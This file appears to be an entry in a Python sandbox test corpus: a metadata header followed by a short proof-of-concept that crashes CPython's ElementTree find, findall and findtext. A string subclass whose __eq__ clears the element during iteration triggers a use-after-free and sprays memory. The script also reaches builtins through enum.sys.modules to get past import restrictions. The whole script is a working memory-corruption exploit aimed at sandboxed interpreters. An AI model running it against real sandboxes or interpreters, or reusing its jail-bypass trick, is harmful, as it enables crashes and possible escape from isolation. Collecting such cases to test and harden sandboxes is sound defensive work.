# id: elementtree-find-eq
# family: memory-safety
# kind: crash
# invariant: A, G
# origin: CPython report gh-126037
# technique: find() compares tags of children that it does not own, while __eq__ of the path clears the element
# needs: a jail that lets xml through
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: crash

import enum

load = enum.sys.modules["builtins"].__import__
Element = load("xml.etree.ElementTree", None, None, ["x"]).Element


class Path(str):
    def __eq__(self, other):
        top.clear()
        refill.extend(bytes([255]) * 60 for _ in range(200))
        return False

    __hash__ = str.__hash__


refill = []
top = Element("top")
top.extend([Element("a"), Element("b"), Element("c")])
for call in (top.find, top.findall, top.findtext):
    call(Path("d"))
    top.extend([Element("a"), Element("b"), Element("c")])
